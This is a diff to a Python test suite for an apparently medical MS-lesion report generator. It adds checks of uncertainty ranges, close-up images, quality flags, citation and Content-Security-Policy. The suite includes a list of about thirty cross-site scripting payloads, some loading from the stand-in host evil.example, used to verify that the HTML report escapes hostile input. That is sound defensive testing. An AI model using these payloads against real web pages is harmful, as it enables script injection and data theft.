@@ -3,8 +3,10 @@
 import base64
 import dataclasses
 import io
+import re
 import subprocess
 import sys
+from hashlib import sha256
 from pathlib import Path
 
 import numpy as np
@@ -15,6 +17,7 @@ from reading import Page
 from mslesion import __version__
 from mslesion.detection import Detection, DetectorIdentity
 from mslesion.lesions.findings import SliceFinding, measure_lesions
+from mslesion.lesions.quality import ScanQuality
 from mslesion.report.canvas import BLUE, ORANGE
 from mslesion.report.detection import detection_report
 from mslesion.report.detection_pictures import draw
@@ -128,15 +131,20 @@ def page(text):
     return Page(text)
 
 
-def test_the_page_begins_with_how_many_lesions_of_what_volume(page):
+def test_the_page_begins_with_how_many_lesions_of_what_volume(found, page):
     """One sentence and four large numbers tell the finding, with what else is plausible."""
+    count, volume_ml = found.uncertainty.count, found.uncertainty.volume_ml
+    counts = f"plausible: {count.low:.0f} to {count.high:.0f}"
+    volumes = f"plausible: {volume_ml.low:.3f} to {volume_ml.high:.2f} ml"
+    assert 0 < count.low < 5 == count.high
+    assert 0 < volume_ml.low < 0.1 < volume_ml.high == 0.6
     assert (
-        "5 lesions (plausible: 3 to 5) were found in this scan, 0.60 ml in all (plausible: 0.024 "
-        "to 0.60 ml); the largest has 512 mm³ (slices 20 to 23), and 0 of them lie within"
+        f"5 lesions ({counts}) were found in this scan, 0.60 ml in all ({volumes}); the largest "
+        "has 512 mm³ (slices 20 to 23), and 0 of them lie within"
     ) in page.text
     for tile in (
-        "lesions 5 plausible: 3 to 5",
-        "lesion volume 0.60 ml plausible: 0.024 to 0.60 ml",
+        f"lesions 5 {counts}",
+        f"lesion volume 0.60 ml {volumes}",
         "probability of MS 93 %",
         "quality flags none nothing about the scan is in doubt",
     ):
@@ -203,7 +211,10 @@ def test_without_a_lesion_six_plain_slices_are_shown():
     """There is no outline, no list of lesions, and nothing is divided by nothing."""
     nothing = detect_by_hand((), verdict=dataclasses.replace(COMPATIBLE, wording="No findings"))
     page = Page(detection_report(nothing))
-    assert "No lesion of 3 mm³ or more was found in this scan." in page.text
+    assert (
+        "No lesion of 3 mm³ or more was found in this scan (plausible: 0 to 0, 0 to 0 ml)."
+        in page.text
+    )
     assert "lesions 0 plausible: 0 to 0" in page.text
     assert [table.caption for table in page.tables] == ["Quality flags", "Where this comes from"]
     shown = shown_slices(nothing)
@@ -491,3 +502,131 @@ def test_a_scan_of_one_slice_has_a_page():
     page = Page(detection_report(single))
     assert "Curves over 1 slice" in page.images[-1]["alt"]
     assert near(pixels_of(page, -1)[60:335], BLUE).any()
+
+
+# --- from near ---------------------------------------------------------------------------------
+
+
+def test_the_largest_and_the_least_certain_lesions_are_shown_from_near(found):
+    """Four by volume; of the others those of the lowest highest probability; by their number."""
+    lesions = tuple(
+        dataclasses.replace(found.lesions[0], lesion_id=n, max_probability=0.5 + 0.05 * (n % 4))
+        for n in range(1, 12)
+    )
+    many = dataclasses.replace(found, lesions=lesions)
+    assert [lesion.lesion_id for lesion in largest_lesions(many)] == [1, 2, 3, 4]
+    assert [lesion.lesion_id for lesion in least_certain_lesions(many)] == [8, 5, 9, 6]
+    page = Page(detection_report(found))
+    assert "Lesion 1: 512 mm³, highest probability 0.90, mean 0.90; slice 20" in page.text
+    assert "Lesion 5: 8.0 mm³" in page.text
+
+
+def test_a_close_up_holds_its_whole_lesion_and_a_bar_of_true_length(found):
+    """Forty millimetres across, wider for a wide lesion; 10 mm are a quarter of the picture."""
+    (near,) = close_ups(scene_of(found), found.lesions[:1])
+    rows, columns = near.part.lesions.shape
+    assert (rows * near.part.plane.row_mm, columns * near.part.plane.column_mm) == (40, 40)
+    assert np.count_nonzero(near.part.lesions == 1) == 16
+    pixels = pixels_drawn(SliceDrawing(near.part, is_outlined=False, scale_mm=10))
+    bar = (pixels[-13] == 255).all(axis=-1)
+    assert np.flatnonzero(bar)[-1] == 332
+    assert np.count_nonzero(bar[200:]) == pytest.approx(342 / 4, abs=3)
+    wide = detect_by_hand(((slice(10, 40), slice(30, 40), slice(20, 22)),))
+    (near,) = close_ups(scene_of(wide), wide.lesions)
+    assert near.part.lesions.shape[1] * near.part.plane.column_mm == 60 + 16
+    assert np.count_nonzero(near.part.lesions) == 300
+
+
+def test_outside_the_brain_every_picture_is_black(found):
+    """A bright shell around the brain, as skin is, can be seen in none of them."""
+    x, y, z = np.meshgrid(*(np.linspace(-1, 1, n) for n in SHAPE), indexing="ij", sparse=True)
+    shell = x**2 + y**2 + z**2 > 1.25
+    voxels = np.where(shell, np.float32(5000), found.scan.voxels)
+    skinned = dataclasses.replace(found, scan=dataclasses.replace(found.scan, voxels=voxels))
+    for with_skin, without in (
+        *zip(axial_slices(scene_of(skinned)), axial_slices(scene_of(found)), strict=True),
+        *zip(projections(scene_of(skinned)), projections(scene_of(found)), strict=True),
+    ):
+        assert np.array_equal(with_skin.plane.grey, without.plane.grey)
+
+
+# --- flags, origin, citation, and what must not run --------------------------------------------
+
+
+def test_quality_is_measured_against_good_scans():
+    """Each measure has its limit and its flag; what was not measured is said to be so."""
+    quality = ScanQuality(noise_share=0.2, bias_ratio=1.2, ghost_share=None)
+    noisy = dataclasses.replace(detect_by_hand(warnings=("noise is strong",)), quality=quality)
+    page = Page(detection_report(noisy))
+    rows = {row[0][0]: [cell[0] for cell in row] for row in page.table("Quality flags").rows[1:]}
+    by_name = {name.split(" share")[0]: cells[1:] for name, cells in rows.items()}
+    told = {name: cells[-1] for name, cells in by_name.items()}
+    assert any("noise" in name and "take care" in flag for name, flag in told.items())
+    assert any("unevenness" in name and "good" in flag for name, flag in told.items())
+    assert any("ghosts" in name and flag == "not measured" for name, flag in told.items())
+    assert "quality flags 1 they stand above" in page.text
+
+
+def test_the_page_tells_how_to_have_it_again_and_how_to_cite_it(page):
+    """The command with its thresholds; the paper as CITATION.cff has it; no date."""
+    assert (
+        "mslesion detect sub-7_FLAIR.nii.gz --output OUT --model-path model.safetensors "
+        "--threshold 0.45 --min-peak 0.6 --min-lesion-mm3 3" in page.text
+    )
+    cff = (Path(__file__).resolve().parents[3] / "CITATION.cff").read_text(encoding="utf-8")
+    for key in ("doi", "journal", "year", "volume"):
+        (value,) = re.findall(rf"^    {key}: \"?([^\"\n]+)", cff, re.MULTILINE)
+        assert f"{{{value}}}" in page.text
+    for name in re.findall(r"family-names: (.+)", cff):
+        assert name in page.text
+    assert "@software{mslesion" in page.text
+    assert "<details>" in detection_report(detect_by_hand(()))
+
+
+PAYLOADS = (
+    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js>",
+    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<object data=//evil.example>",
+    "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
+    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<form action=//evil.example><input type=submit>", "<input onfocus=alert(1) autofocus>",
+    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
+    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+    "<style>@import '//evil.example/x.css';</style>", "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>", "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><img src=x onerror=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "{{constructor.constructor('alert(1)')()}}<b>",
+)  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def harmless_tags():
+    """The tags of a page, and the names of their attributes, where all names are plain."""
+    page = Page(detection_report(detect_by_hand(FIVE[:1], name="plain", warnings=("plain",))))
+    return [(tag, sorted(values)) for tag, values in page.tags]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_name_adds_a_tag_or_an_attribute_to_the_page(payload, harmless_tags):
+    """In name, file, history, warning and reason: the page has the tags that it has without."""
+    hostile = detect_by_hand(FIVE[:1], name=payload, warnings=(payload,))
+    scan = dataclasses.replace(hostile.scan, history=(payload,), source=Path(f"{payload}_FLAIR"))
+    text = detection_report(dataclasses.replace(hostile, scan=scan))
+    page = Page(text)
+    assert [(tag, sorted(values)) for tag, values in page.tags] == harmless_tags
+    assert payload in page.text
+    assert payload not in text or "<" not in payload
+
+
+def test_the_page_forbids_itself_to_run_or_load_anything(text):
+    """Its policy allows pictures that are inside and one style sheet, known by its hash."""
+    (policy,) = re.findall(r'Content-Security-Policy" content="([^"]+)"', text)
+    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
+    (style,) = re.findall(r"<style>(.*?)</style>", text, re.DOTALL)
+    digest = base64.b64encode(sha256(style.encode()).digest()).decode()
+    assert f"style-src 'sha256-{digest}'" in policy
+    assert "url(" not in style
+    assert "@import" not in style
+    assert "style=" not in text
